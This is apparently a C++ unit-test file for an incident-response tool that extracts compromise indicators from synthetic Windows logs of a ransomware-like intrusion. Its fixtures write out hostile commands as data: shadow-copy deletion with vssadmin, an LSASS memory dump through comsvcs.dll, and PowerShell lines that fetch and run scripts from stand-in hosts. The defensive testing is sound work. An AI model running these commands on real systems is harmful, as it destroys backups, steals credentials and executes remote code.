// SPDX-License-Identifier: EUPL-1.2
#include <fmt/format.h>
#include <gtest/gtest.h>

#include <algorithm>

#include "diagnose/book_for_tests.h"
#include "diagnose/question.h"
#include "diagnose/questions/indicators/programs.h"

namespace beffroi::diagnose::questions::indicators {

Question make_question();

namespace {

constexpr const char* kSha256 = "ABCDEF0123456789abcdef0123456789abcdef0123456789abcdef0123456789";

const model::Finding* finding(const Answer& answer, std::string_view statement) {
  const auto found = std::ranges::find(answer.findings, statement, &model::Finding::statement);
  return found == answer.findings.end() ? nullptr : &*found;
}

template <typename T>
T argument(const model::Finding& finding, std::string_view name) {
  return std::get<T>(*base::find_argument(finding.arguments, name));
}

/// A downloaded program that steals passwords, speaks to a machine of the same network and empties the log.
void add_payload(BookForTests& town, std::string hashes) {
  const std::string payload = "C:\\Users\\a.durand\\Downloads\\facture.exe";
  town.fact("process.start", "2026-11-08T01:00:00Z", "PC1",
            {{"process.executable", payload},
             {"process.command_line", payload},
             {"process.parent.executable", "C:\\Windows\\explorer.exe"},
             {"process.pid", "77"},
             {"winlog.hashes", std::move(hashes)}});
  town.fact("network.flow", "2026-11-08T01:00:05Z", "PC1",
            {{"process.executable", "\\device\\harddiskvolume2\\Users\\a.durand\\Downloads\\facture.exe"},
             {"source.ip", "10.0.0.7"},
             {"destination.ip", "10.0.5.13"},
             {"destination.port", "8080"},
             {"network.direction", "true"}});
  town.fact("process.start", "2026-11-08T01:10:00Z", "PC1",
            {{"process.executable", "C:\\Windows\\System32\\vssadmin.exe"},
             {"process.command_line", "vssadmin delete shadows /all"},
             {"process.parent.executable", payload},
             {"process.parent.pid", "77"}});
  town.fact("configuration.protection-disabled", "2026-11-08T01:20:00Z", "PC1");
  town.fact("configuration.audit-log-cleared", "2026-11-08T01:30:00Z", "PC1");
}

TEST(Indicators, ThePayloadsHashAndThePrivateAddressItSpokeToAreTold) {
  BookForTests town;
  add_payload(town, std::string("MD5=0123456789abcdef0123456789abcdef,SHA256=") + kSha256);
  const Scene& scene = town.scene();
  ASSERT_EQ(scene.attack.sureness, Sureness::sure);
  const Answer answer = make_question().ask(scene);
  const model::Finding* address = finding(answer, "contacted");
  ASSERT_TRUE(address);
  EXPECT_EQ(argument<std::string>(*address, "address"), "10.0.5.13");
  EXPECT_TRUE(argument<bool>(*address, "internal"));
  EXPECT_EQ(argument<std::string>(*address, "port"), "8080");
  EXPECT_FALSE(address->time) << "it is no part of the story";
  const model::Finding* program = finding(answer, "program");
  ASSERT_TRUE(program);
  EXPECT_EQ(argument<std::string>(*program, "algorithm"), "SHA256");
  EXPECT_EQ(argument<std::string>(*program, "hash").substr(0, 12), "abcdef012345");
  EXPECT_EQ(program->state, "yes");
  EXPECT_NE(answer.sections.front().json.find(R"("value":"10.0.5.13","internal":true)"), std::string::npos);
}

TEST(Indicators, TheFirstAreToldTheRestAreCountedAndTheFileHasAll) {
  BookForTests town;
  add_payload(town, "SHA256=none");
  for (int i = 1; i <= 40; ++i) {  // the later, the smaller as a text
    town.fact("network.flow", "2026-11-08T01:00:" + std::to_string(10 + i) + "Z", "PC1",
              {{"process.executable", "C:\\Users\\a.durand\\Downloads\\facture.exe"},
               {"source.ip", "10.0.0.7"},
               {"destination.ip", "198.51.100." + std::to_string(200 - i)},
               {"destination.port", "443"},
               {"winlog.count", "12"}});
  }
  const Answer answer = make_question().ask(town.scene());
  EXPECT_EQ(std::ranges::count(answer.findings, "contacted", &model::Finding::statement), 30);
  EXPECT_EQ(argument<std::string>(*finding(answer, "contacted"), "address"), "10.0.5.13");
  EXPECT_EQ(argument<std::int64_t>(answer.findings[1], "count"), 12);
  const model::Finding* more = finding(answer, "more");
  ASSERT_TRUE(more);
  EXPECT_EQ(argument<std::int64_t>(*more, "addresses"), 11);
  EXPECT_FALSE(more->supports.empty());
  EXPECT_NE(answer.sections.front().json.find("198.51.100.160"), std::string::npos);
}

TEST(Indicators, WithoutAHashTheProgramIsToldByItsPath) {
  BookForTests town;
  add_payload(town, "SHA256=none");
  const Answer answer = make_question().ask(town.scene());
  ASSERT_TRUE(finding(answer, "program"));
  EXPECT_EQ(argument<std::string>(*finding(answer, "program"), "hash"), "");
  EXPECT_NE(answer.sections.front().json.find(R"("type":"path")"), std::string::npos);
}

TEST(Indicators, AnAddressFromWhichTheIntruderCameIsToldAndThatOfAMachineOfTheCaseIsNot) {
  for (const std::string address : {"203.0.113.9", "10.8.0.7"}) {
    BookForTests town;
    town.fact("authentication.logged-in", "2026-11-08T01:00:00Z", "TSE",
              {{"user.name", "prestataire"},
               {"user.domain", "MAIRIE"},
               {"winlog.logon.type", "10"},
               {"source.ip", address},
               {"winlog.logon.id", "0xaa"}});
    town.fact("process.start", "2026-11-08T01:10:00Z", "TSE",
              {{"process.executable", "C:\\Windows\\System32\\rundll32.exe"},
               {"process.command_line", "rundll32 comsvcs.dll, MiniDump 600 x.dmp full"},
               {"process.parent.executable", "C:\\Windows\\System32\\cmd.exe"},
               {"winlog.logon.id", "0xaa"},
               {"user.name", "prestataire"}});
    town.fact("configuration.protection-disabled", "2026-11-08T01:20:00Z", "TSE");
    town.fact("configuration.audit-log-cleared", "2026-11-08T01:30:00Z", "TSE", {{"user.name", "prestataire"}});
    const Scene& scene = town.scene();
    const Answer answer = make_question().ask(scene);
    const model::Finding* source = finding(answer, "source");
    ASSERT_TRUE(source) << address;
    EXPECT_EQ(argument<std::string>(*source, "address"), address);
    EXPECT_EQ(argument<bool>(*source, "internal"), address == "10.8.0.7");
    EXPECT_EQ(argument<std::string>(*source, "network"), address == "10.8.0.7" ? "elsewhere" : "");
    EXPECT_FALSE(finding(answer, "program")) << "a program of Windows is nobody's";
  }
}

TEST(Indicators, AProgramIsSaidToHaveRunOnEveryMachineOfTheAttack) {
  BookForTests town;
  add_payload(town, std::string("SHA256=") + kSha256);
  int minute = 15;
  for (const auto* host : {"PC2", "PC3", "PC4", "PC5", "PC6"}) {
    town.fact("process.start", fmt::format("2026-11-08T01:{}:00Z", minute), host,
              {{"process.executable", "C:\\Users\\a.durand\\Downloads\\facture.exe"},
               {"process.command_line", "facture.exe"},
               {"process.parent.executable", "C:\\Windows\\System32\\cmd.exe"},
               {"process.pid", "88"}});
    town.fact("process.start", fmt::format("2026-11-08T01:{}:30Z", minute++), host,
              {{"process.executable", "C:\\Windows\\System32\\vssadmin.exe"},
               {"process.command_line", "vssadmin delete shadows /all"},
               {"process.parent.executable", "C:\\Users\\a.durand\\Downloads\\facture.exe"},
               {"process.parent.pid", "88"}});
  }
  const Answer answer = make_question().ask(town.scene());
  const model::Finding* program = finding(answer, "program");
  ASSERT_TRUE(program);
  EXPECT_EQ(argument<std::string>(*program, "host"), "PC1");
  EXPECT_EQ(argument<std::string>(*program, "host2"), "PC2");
  EXPECT_EQ(argument<std::string>(*program, "host4"), "PC4");
  EXPECT_EQ(argument<std::int64_t>(*program, "more"), 2);
  EXPECT_EQ(program->supports.size(), 6U) << "where it is seen first on each of them";
}

TEST(Indicators, WhatTheCommandsOfASureAttackNameIsToldWithItsRecord) {
  BookForTests town;
  add_payload(town, std::string("SHA256=") + kSha256);
  town.fact("process.start", "2026-11-08T01:11:00Z", "PC1",
            {{"process.executable", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"},
             {"process.command_line", "powershell iex (iwr http://10.0.9.9/a.ps1); iex (iwr https://files.example.org/b.ps1)"},
             {"process.parent.executable", "C:\\Users\\a.durand\\Downloads\\facture.exe"},
             {"process.parent.pid", "77"}});
  const Scene& scene = town.scene();
  ASSERT_EQ(scene.attack.sureness, Sureness::sure);
  std::vector<const model::Finding*> named;
  const Answer answer = make_question().ask(scene);
  for (const model::Finding& one : answer.findings) {
    if (one.statement == "named") named.push_back(&one);
  }
  ASSERT_EQ(named.size(), 2U);
  EXPECT_EQ(argument<std::string>(*named[0], "address"), "http://10.0.9.9/a.ps1");
  EXPECT_EQ(argument<std::string>(*named[0], "network"), "private");
  EXPECT_EQ(argument<std::string>(*named[1], "address"), "https://files.example.org/b.ps1");
  EXPECT_EQ(argument<std::string>(*named[1], "network"), "");
  EXPECT_TRUE(argument<bool>(*named[1], "url"));
  EXPECT_FALSE(named[0]->supports.empty());
  EXPECT_NE(answer.sections.front().json.find(R"("type":"url","value":"http://10.0.9.9/a.ps1","internal":true)"),
            std::string::npos);
}

TEST(Indicators, WithoutAnAttackThereIsNone) {
  BookForTests town;
  town.fact("configuration.audit-log-cleared", "2026-11-08T01:30:00Z", "PC1");
  const Answer answer = make_question().ask(town.scene());
  EXPECT_TRUE(answer.findings.empty());
  EXPECT_EQ(answer.sections.front().json, "[]");
}

TEST(Indicators, TheStrongestDigestCountsAndNothingElseIsOne) {
  const std::string sha256 = std::string("SHA256=") + kSha256;
  EXPECT_EQ(best_hash("SHA1=0123456789012345678901234567890123456789," + sha256).first, "SHA256");
  EXPECT_EQ(best_hash("SHA1=0123456789012345678901234567890123456789").first, "SHA1");
  EXPECT_EQ(best_hash("IMPHASH=0123456789abcdef0123456789abcdef").first, "");
  EXPECT_EQ(best_hash("SHA256=<script>").first, "");
  EXPECT_EQ(best_hash("").second, "");
}

TEST(Indicators, AVolumeIsNoPartOfAPath) {
  EXPECT_EQ(path_without_volume("C:\\Users\\X.exe"), "\\users\\x.exe");
  EXPECT_EQ(path_without_volume("\\Device\\HarddiskVolume12\\Users\\X.exe"), "\\users\\x.exe");
  EXPECT_EQ(path_without_volume("\\device\\harddiskvolume3"), "");
  EXPECT_EQ(path_without_volume(""), "");
}

}  // namespace
}  // namespace beffroi::diagnose::questions::indicators
